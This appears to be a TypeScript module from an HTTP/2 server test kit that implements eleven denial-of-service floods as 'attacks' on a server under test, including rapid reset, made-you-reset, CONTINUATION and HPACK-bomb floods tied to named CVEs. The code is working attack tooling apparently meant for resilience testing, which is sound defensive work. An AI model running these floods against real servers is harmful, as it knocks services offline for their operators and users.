import {
  Flag,
  FrameType,
  frame,
  PREFACE,
  rstStream,
  settings,
  windowUpdate,
} from "@egide/testkit/h2/frame.ts";
import { encodeLiterals } from "@egide/testkit/h2/hpack.ts";
import type { Field } from "@egide/testkit/reference/message.ts";
import type { Socket } from "bun";
import { type Attack, every, gather } from "./attack.ts";

/* Floods of frames: cheap to send, meant to be dear to receive (RFC 9113, section 10.5). */

const START = Buffer.concat([Buffer.from(PREFACE, "latin1"), settings()]);
const CONNECTIONS = 20;
/** Connections in all: who is cut comes back so many times. */
const COMEBACKS = 400;

function requestFields(method: string, path: string, authority = "site.test"): Field[] {
  return [
    [":method", method],
    [":scheme", "http"],
    [":authority", authority],
    [":path", path],
  ];
}

const REQUEST = encodeLiterals(requestFields("GET", "/flood"));

/**
 * A mob that begins with `first` and then sends what `burst` makes, again and again, as fast as the
 * edge takes it (100 bursts a second for each connection at most).
 */
function flood(
  name: string,
  about: string,
  first: Buffer,
  burst: (round: number) => Buffer,
  count = CONNECTIONS,
): Attack {
  return {
    name,
    about,
    async run(victim, signal) {
      const rounds = new WeakMap<Socket, number>();
      const blocked = new WeakSet<Socket>();
      let bytes = 0;
      const mob = await gather({
        port: victim.http,
        count,
        replacements: COMEBACKS,
        opened: (socket) => void socket.write(Buffer.concat([START, first])),
        drained: (socket) => void blocked.delete(socket),
      });
      await every(10, signal, () => {
        for (const socket of mob.sockets) {
          if (blocked.has(socket)) continue;
          const round = rounds.get(socket) ?? 0;
          rounds.set(socket, round + 1);
          const data = burst(round);
          const written = socket.write(data);
          bytes += Math.max(0, written);
          // What was not taken is lost: a torn frame ends this connection, and a new one comes.
          if (written < data.length) blocked.add(socket);
        }
      });
      mob.stop();
      return `${mob.tally.toString()}, ${(bytes / 1e6).toFixed(1)} MB`;
    },
  };
}

const repeat = (bytes: Buffer, times: number): Buffer => Buffer.concat(Array(times).fill(bytes));

const rapidReset = flood(
  "rapid reset",
  "streams that are opened and reset at once (CVE-2023-44487)",
  Buffer.alloc(0),
  (round) => {
    const parts: Buffer[] = [];
    for (let i = 0; i < 100; i++) {
      const stream = 1 + 2 * (round * 100 + i);
      parts.push(frame(FrameType.headers, 5, stream, REQUEST), rstStream(stream, 8));
    }
    return Buffer.concat(parts);
  },
);

const madeYouReset = flood(
  "made-you-reset",
  "streams that make the server reset them by a window of 2^31 (CVE-2025-8671)",
  Buffer.alloc(0),
  (round) => {
    const parts: Buffer[] = [];
    for (let i = 0; i < 50; i++) {
      const stream = 1 + 2 * (round * 50 + i);
      parts.push(frame(FrameType.headers, 5, stream, REQUEST));
      parts.push(windowUpdate(stream, 0x7fffffff), windowUpdate(stream, 0x7fffffff));
    }
    return Buffer.concat(parts);
  },
);

const continuation = flood(
  "CONTINUATION",
  "a field block that never ends (CVE-2024-27316 and others)",
  frame(FrameType.headers, Flag.endStream, 1, REQUEST),
  () => frame(FrameType.continuation, 0, 1, encodeLiterals([["x", "y".repeat(16_000)]])),
);

const emptyContinuation = flood(
  "empty CONTINUATION",
  "a field block of empty frames",
  frame(FrameType.headers, Flag.endStream, 1, REQUEST),
  () => repeat(frame(FrameType.continuation, 0, 1), 500),
);

const pings = flood("PING", "500 PING a burst, none of their answers read", Buffer.alloc(0), () =>
  repeat(frame(FrameType.ping, 0, 0, Buffer.alloc(8)), 500),
);

const settingsFlood = flood("SETTINGS", "200 SETTINGS a burst", Buffer.alloc(0), () =>
  repeat(settings([4, 65_535]), 200),
);

const emptyData = flood(
  "empty DATA",
  "DATA frames without data (CVE-2019-9518)",
  frame(FrameType.headers, Flag.endHeaders, 1, encodeLiterals(requestFields("POST", "/upload"))),
  () => repeat(frame(FrameType.data, 0, 1), 500),
);

const priorities = flood("PRIORITY", "500 PRIORITY a burst", Buffer.alloc(0), () =>
  repeat(frame(FrameType.priority, 0, 1, Buffer.from([0, 0, 0, 0, 15])), 500),
);

const windows = flood("WINDOW_UPDATE", "500 increments of one a burst", Buffer.alloc(0), () =>
  repeat(windowUpdate(0, 1), 500),
);

/** One entry of 4,000 bytes in the dynamic table, then named 4,000 times in a block of 4,000 bytes. */
const hpackBomb = flood(
  "HPACK bomb",
  "small field blocks that unpack to 16 MB (CVE-2016-6581)",
  frame(
    FrameType.headers,
    5,
    1,
    Buffer.concat([
      encodeLiterals(requestFields("GET", "/flood")),
      Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
      Buffer.alloc(4000, 0x79),
    ]),
  ),
  (round) =>
    frame(FrameType.headers, 5, 3 + 2 * round, Buffer.concat([REQUEST, Buffer.alloc(4000, 0xbe)])),
);

const HUNGRY = encodeLiterals(requestFields("GET", "/1000000", "bulk.test"));
const zeroWindows: Attack = {
  name: "zero windows",
  about: "50 connections with 100 downloads each and a window of 0",
  async run(victim, signal) {
    const streams = Array.from({ length: 100 }, (_, i) =>
      frame(FrameType.headers, 5, 1 + 2 * i, HUNGRY),
    );
    const opening = Buffer.concat([Buffer.from(PREFACE, "latin1"), settings([4, 0]), ...streams]);
    const mob = await gather({
      port: victim.http,
      count: 50,
      opened: (socket) => void socket.write(opening),
    });
    await every(200, signal, () => {
      // A sign of life, so that nobody takes the connection for dead.
      for (const socket of mob.sockets) socket.write(windowUpdate(0, 1));
    });
    mob.stop();
    return mob.tally.toString();
  },
};

export const h2Attacks: readonly Attack[] = [
  rapidReset,
  madeYouReset,
  continuation,
  emptyContinuation,
  pings,
  settingsFlood,
  emptyData,
  priorities,
  windows,
  hpackBomb,
  zeroWindows,
];
